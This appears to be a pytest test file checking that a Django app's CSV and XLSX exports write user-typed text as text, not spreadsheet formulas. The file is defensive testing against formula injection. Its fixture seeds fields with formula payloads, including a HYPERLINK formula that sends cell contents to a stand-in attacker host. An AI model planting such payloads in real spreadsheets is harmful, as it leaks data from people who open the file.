"""Every export and every XLSX report writes what people typed as text, never as a formula.

Text such as `=HYPERLINK("https://evil.example/?x="&A1,"click")` typed into a workshop answer, a
proposal's title or a pilot's narrative comes out of each XLSX file as a text cell, and out of each
CSV file behind a `'`, so that a spreadsheet program opening the file runs nothing.
"""

import csv
import io
from datetime import date
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ccrs import reporting
from ccrs.spreadsheets import FORMULA_STARTS
from cities import services as cities_services
from cities.models import ApplicationStatus, SelectionCriterion
from cocreation import services as cocreation_services
from cocreation.models import QuestionKind, StakeholderKind
from pilots import services as pilots_services
from pilots.models import Measure, PilotStatus
from sectors import services as sectors_services
from sectors.models import IndicatorValue
from tests.cities.conftest import make_application
from tests.cocreation.factories import call_opened, workshop_held

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
SUM = "=1+2"
PLUS = "+1"
AT = "@SUM(A1)"
MINUS = "-2+3"


@pytest.fixture
def typed(cohort, city_a, staff, member_a):
    """Data of every app, its free-text fields typed by someone who knows spreadsheet formulas."""
    criteria = [SelectionCriterion.objects.create(cohort=cohort, name="Co-funding", weight=Decimal("1"), position=0)]
    application = make_application(cohort, city_name=SUM, submitted=True, cro_name=HYPERLINK)
    cities_services.review_save(application=application, reviewer=staff, scores={criteria[0].pk: 4}, comment=AT)
    application = cities_services.application_decide(
        application=application, decided_by=staff, status=ApplicationStatus.SELECTED, rationale=PLUS
    )
    cities_services.cofunding_record(
        city=application.city, kind="cash", stage="received", amount="1000", currency="VND", on=date(2026, 1, 5),
        description=MINUS,
    )  # fmt: skip

    process = cocreation_services.process_create(city=city_a, title="Thu gom rác")
    sme, _created = cocreation_services.stakeholder_register(
        city=city_a, name=PLUS, email="sme@example.vn", organisation=AT, kind=StakeholderKind.SME, language="en"
    )
    workshop = workshop_held(process, title="Ý tưởng", language="en", place="UBND")
    question = cocreation_services.question_add(workshop=workshop, kind=QuestionKind.LONG_TEXT, text={"en": SUM})
    cocreation_services.workshop_open(workshop=workshop)
    invitation, _created = cocreation_services.invitation_create(workshop=workshop, stakeholder=sme)
    submission, _created = cocreation_services.submission_save(
        invitation=invitation, answers={str(question.pk): HYPERLINK}, language="en"
    )
    cocreation_services.idea_create(workshop=workshop, title=MINUS, cluster=AT, sources=[submission])
    call = call_opened(process, title="Gọi đề xuất", description="…", required_documents=[])
    proposal = cocreation_services.proposal_submit(
        call=call, stakeholder=sme, title=SUM, summary=HYPERLINK, employees=8, registered_in_city=True
    )
    criterion = cocreation_services.criterion_add(process=process, name=AT, weight=1, call=call)
    cocreation_services.conflict_declare(process=process, evaluator=staff, has_conflict=False, call=call)
    cocreation_services.score_sheet_submit(
        evaluator=staff, proposal=proposal, values={criterion.pk: 7}, comments={criterion.pk: HYPERLINK}
    )

    pilots_services.exchange_rate_set(currency="VND", reporting_currency="USD", valid_from=date(2023, 1, 1), rate="1")
    pilot = pilots_services.pilot_create(
        city=city_a, title=HYPERLINK, start_date=date(2024, 1, 1), end_date=date(2025, 12, 31),
        reporting_currency="USD",
    )  # fmt: skip
    pilots_services.pilot_status_change(pilot=pilot, status=PilotStatus.ACTIVE)
    pilots_services.milestone_save(pilot=pilot, title=SUM, owner=AT, due_date=date(2024, 6, 1))
    result = pilots_services.result_create(pilot=pilot, type="output", title=HYPERLINK)
    indicator = pilots_services.indicator_create(result=result, title=MINUS, measure=Measure.UNIT, unit=AT)
    period = pilots_services.period_create(
        indicator=indicator, start=date(2024, 1, 1), end=date(2024, 6, 30), target_value=Decimal("-5")
    )
    update = pilots_services.update_submit(period=period, user=member_a, value="-3", narrative=SUM)
    pilots_services.update_approve(update=update, reviewer=staff, comment=PLUS)

    assessment = sectors_services.assessment_start(city=city_a)
    sector = sectors_services.sector_add(assessment=assessment, isic_code="38", local_name=MINUS)
    for criterion in assessment.city.cohort.criteria.all():
        sectors_services.value_set(sector=sector, criterion=criterion, value="-1.5", source=HYPERLINK)
    return {
        "cohort": cohort, "city": city_a, "workshop": workshop, "call": call, "pilot": pilot, "sector": sector
    }  # fmt: skip


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes, typed_texts: set[str]) -> None:
    """No cell is a formula, and each of `typed_texts` is there as a text cell, unchanged."""
    cells = xlsx_cells(data)
    assert [c.value for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert typed_texts <= texts


def is_number(field: str) -> bool:
    try:
        Decimal(field)
    except InvalidOperation:
        return False
    return True


def assert_csv_escaped(data: bytes, typed_texts: set[str]) -> None:
    """No field but a number starts like a formula, and each of `typed_texts` is there behind a `'`."""
    fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]
    assert [f for f in fields if f.startswith(FORMULA_STARTS) and not is_number(f)] == []
    assert {"'" + text for text in typed_texts} <= set(fields)


def download(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return response.content


def test_cohort_export(typed, staff, client_for):
    """A city's name, its CRO, the decision's rationale, a review's comment and co-funding's description stay text."""
    client = client_for(staff)
    texts = {SUM, HYPERLINK, PLUS, AT, MINUS}
    url = reverse("cities:cohort_export", kwargs={"pk": typed["cohort"].pk, "fmt": "xlsx"})
    assert_no_formula(download(client, url), texts)
    assert_csv_escaped(download(client, url.replace(".xlsx", ".csv")), texts)


def test_workshop_export(typed, member_a, client_for):
    """A stakeholder's answer, name and organisation, the question's text and an idea's title stay text."""
    client = client_for(member_a)
    url = reverse("cocreation:workshop_export", kwargs={"pk": typed["workshop"].pk, "fmt": "xlsx"})
    assert_no_formula(download(client, url), {HYPERLINK, PLUS, AT, SUM, MINUS})
    assert_csv_escaped(download(client, url.replace(".xlsx", ".csv")), {HYPERLINK, PLUS, AT, SUM})


def test_call_export(typed, member_a, client_for):
    """A proposal's title, the SME's name, a criterion's name and an evaluator's comment stay text."""
    client = client_for(member_a)
    url = reverse("cocreation:call_export", kwargs={"pk": typed["call"].pk, "fmt": "xlsx"})
    assert_no_formula(download(client, url), {SUM, PLUS, AT, HYPERLINK})
    assert_csv_escaped(download(client, url.replace(".xlsx", ".csv")), {SUM, PLUS})


def test_pilot_results_export(typed, member_a, client_for):
    """Titles, the unit, an update's narrative and the reviewer's comment stay text; negative figures stay numbers."""
    url = reverse("pilots:export_xlsx", kwargs={"pk": typed["pilot"].pk})
    data = download(client_for(member_a), url)
    assert_no_formula(data, {HYPERLINK, MINUS, AT, SUM, PLUS})
    assert {-5, -3} <= {c.value for c in xlsx_cells(data) if c.data_type == "n"}


def test_sector_values_template(typed, member_a, client_for):
    """A sector's local name and a value's source stay text; a negative value is a plain number in the CSV."""
    client = client_for(member_a)
    url = reverse("sectors:values_template", kwargs={"slug": typed["city"].slug})
    assert_no_formula(download(client, url + "?format=xlsx"), {MINUS, HYPERLINK})
    body = download(client, url)
    assert_csv_escaped(body, {MINUS, HYPERLINK})
    assert "-1.5000" in [f for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for f in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_sector_values_template_imports_back_unchanged(fmt, typed, member_a, client_for):
    """The downloaded sheet, uploaded again, keeps names, sources and values as they were (no `'` added)."""
    client = client_for(member_a)
    url = reverse("sectors:values_template", kwargs={"slug": typed["city"].slug})
    body = download(client, url + ("?format=xlsx" if fmt == "xlsx" else ""))
    count = sectors_services.values_import(assessment=typed["sector"].assessment, data=body, filename=f"v.{fmt}")
    assert count == IndicatorValue.objects.filter(sector=typed["sector"]).count() > 0
    assert set(IndicatorValue.objects.values_list("source", "value")) == {(HYPERLINK, Decimal("-1.5"))}


REPORTS = {
    "workshop_summary": ("workshop", {HYPERLINK, PLUS, AT, SUM, MINUS}),
    "pilot_progress": ("pilot", {HYPERLINK, MINUS, AT, SUM, PLUS}),
    "program": (None, {SUM, HYPERLINK, MINUS}),
    "data_export": (None, {HYPERLINK, SUM, PLUS, AT, MINUS}),
}


def test_every_xlsx_report_kind_is_checked_here():
    """A new XLSX report kind fails here until it is added to REPORTS, and so checked."""
    assert {name for name, kind in reporting.kinds().items() if "xlsx" in kind.formats} == set(REPORTS)


@pytest.mark.parametrize("name", REPORTS)
def test_xlsx_report(name, typed, staff):
    """Each XLSX report kind, built as the worker builds it, holds the typed text as text cells."""
    key, texts = REPORTS[name]
    kind = reporting.kind_get(name)
    built = kind.build(
        object_id=typed[key].pk if key else None, format="xlsx", progress=lambda _percent: None, user=staff
    )
    with built.content as content:
        assert_no_formula(content.read(), texts)
